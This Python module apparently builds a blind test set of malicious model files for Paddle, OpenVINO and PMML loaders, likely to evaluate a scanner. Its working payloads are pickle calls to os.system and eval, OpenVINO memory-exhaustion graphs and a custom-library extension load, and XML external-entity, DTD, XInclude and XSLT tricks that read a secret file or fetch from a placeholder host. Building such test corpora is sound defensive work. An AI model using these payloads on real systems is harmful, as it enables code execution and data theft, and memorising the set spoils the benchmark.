"""The third blind set: Paddle, OpenVINO and PMML."""

# ruff: noqa: E501  (payloads stand on one line)

# ruff: noqa: E501  (payloads stand on one line)

from __future__ import annotations

import struct
from collections.abc import Iterator

from corpora.unseen3_base import (
    COMMANDS,
    HOST,
    SECRET,
    Sample,
    call,
    dumps,
    npy,
)
from corpora.unseen3_data import data

EVIL = call("os:system", COMMANDS[0])
Files = dict[str, bytes]
Row = tuple[str, Files, str, str]


def _paddle() -> Iterator[Row]:
    load = "import paddle; paddle.load(f)"
    for name, file, protocol in (
        ("params", "model.pdparams", 2),
        ("optimizer", "model.pdopt", 4),
        ("text", "old.pdparams", 0),
    ):
        yield name, {file: dumps({"linear.weight": EVIL, "StructuredToParameterName@@": {}}, protocol)}, load, "code"
    yield (
        "reduce",
        {"best.pdparams": dumps(call("builtins:eval", "__import__('os').system('touch /tmp/x')"), 3)},
        load,
        "code",
    )
    yield (
        "numpy-path",
        {
            "model.pdparams": dumps(call("numpy:load", "w.npy", None, True), 4),
            "w.npy": npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", dumps(EVIL)),
        },
        load,
        "code",
    )
    yield "tuple-state", {"layer.pdparams": dumps((("w", EVIL), 1), 2)}, load, "code"


def _openvino() -> Iterator[Row]:
    load = "import openvino as o; c = o.Core(); c.compile_model(c.read_model(f), 'CPU')([])"

    def layer(number: int, kind: str, attributes: str, inputs: list[str], output: str) -> str:
        ports = "".join(f'<port id="{i}">{one}</port>' for i, one in enumerate(inputs))
        made = f'<output><port id="{len(inputs)}" {output}</port></output>' if output else ""
        values = f"<data {attributes}/>" if attributes else ""
        return f'<layer id="{number}" name="l{number}" type="{kind}" version="opset1">{values}<input>{ports}</input>{made}</layer>'.replace(
            "<input></input>", ""
        )

    def net(layers: list[str], edges: str) -> bytes:
        return f'<?xml version="1.0"?><net name="n" version="11"><layers>{"".join(layers)}</layers><edges>{edges}</edges></net>'.encode()

    def edge(a: int, ap: int, b: int, bp: int) -> str:
        return f'<edge from-layer="{a}" from-port="{ap}" to-layer="{b}" to-port="{bp}"/>'

    one = layer(0, "Const", 'element_type="f32" shape="1" offset="0" size="4"', [], 'precision="FP32"><dim>1</dim>')
    shape = layer(1, "Const", 'element_type="i64" shape="1" offset="8" size="8"', [], 'precision="I64"><dim>1</dim>')
    wide = layer(
        2, "Broadcast", 'mode="numpy"', ["<dim>1</dim>", "<dim>1</dim>"], 'precision="FP32"><dim>2147483648</dim>'
    )
    result = layer(3, "Result", "", ["<dim>2147483648</dim>"], "")
    big = net([one, shape, wide, result], edge(0, 0, 2, 0) + edge(1, 0, 2, 1) + edge(2, 2, 3, 0))
    weights = struct.pack("<fxxxxq", 1.0, 2**31)
    yield "broadcast", {"model.xml": big, "model.bin": weights}, load, "crash"
    small = net([one, layer(3, "Result", "", ["<dim>1</dim>"], "")], edge(0, 0, 3, 0))
    yield (
        "extension",
        {"model.xml": small, "model.bin": weights, "libcustom.so": data("lib.so")},
        "import openvino as o; c = o.Core(); c.add_extension('/tmp/s/libcustom.so'); c.read_model(f)",
        "code",
    )
    tiled = big.replace(b'type="Broadcast"', b'type="Tile"').replace(b'<data mode="numpy"/>', b"")
    yield "tile", {"model.xml": tiled, "model.bin": weights}, load, "crash"
    entity = (
        b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY a SYSTEM "file://'
        + SECRET.encode()
        + b'">]><net name="n" version="11"><layers>&a;</layers></net>'
    )
    yield (
        "entity",
        {"model.xml": entity},
        "import lxml.etree as e; e.parse(f, e.XMLParser(resolve_entities=True))",
        "file",
    )


def _pmml() -> Iterator[Row]:
    head = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header copyright="&a;"/><DataDictionary/></PMML>'
    lxml = "import lxml.etree as e; e.parse(f, e.XMLParser(resolve_entities=True, load_dtd=True, no_network=False, huge_tree=True))"
    java = "from pypmml import Model; Model.load(f)"
    outside = f'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a SYSTEM "file://{SECRET}">]>{head}'.replace(
        'copyright="&a;"/>', ">&a;</Header>"
    ).encode()
    yield "entity", {"tree.pmml": outside}, lxml, "file"
    yield "entity-java", {"tree.pmml": outside}, java, "file"
    yield (
        "dtd",
        {"tree.pmml": f'<!DOCTYPE PMML SYSTEM "file://{SECRET}">{head.replace("&a;", "a")}'.encode()},
        lxml,
        "file",
    )
    yield (
        "dtd-java",
        {"tree.xml": f'<!DOCTYPE PMML SYSTEM "http://{HOST}/a.dtd">{head.replace("&a;", "a")}'.encode()},
        java,
        "network",
    )
    parameter = f'<!DOCTYPE PMML [<!ENTITY % p SYSTEM "file://{SECRET}"> %p;]>{head.replace("&a;", "a")}'
    yield "parameter-entity", {"tree.pmml": ("\ufeff" + parameter).encode("utf-16-le")}, lxml, "file"
    include = head.replace('copyright="&a;"', "").replace(
        "<DataDictionary/>",
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{SECRET}" parse="text"/>',
    )
    yield "xinclude", {"tree.pmml": include.encode()}, "import lxml.etree as e; e.parse(f).xinclude()", "file"
    sheet = f'<?xml-stylesheet href="a.xsl"?>{head.replace("&a;", "a")}'
    xsl = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'file://SECRET\')"/></xsl:template></xsl:stylesheet>'
    yield (
        "stylesheet",
        {"tree.pmml": sheet.encode(), "a.xsl": xsl.replace("SECRET", SECRET).encode()},
        "import lxml.etree as e; d = e.parse(f); e.XSLT(e.parse('/tmp/s/a.xsl'))(d)",
        "file",
    )


def samples() -> Iterator[Sample]:
    """Paddle, OpenVINO and PMML."""
    for family, rows, env in (
        ("paddle", _paddle(), "paddle"),
        ("openvino", _openvino(), "main"),
        ("pmml", _pmml(), "extra+main"),
    ):
        for name, files, loader, effect in rows:
            yield Sample(f"{family}/{name}", files, loader, effect, env)
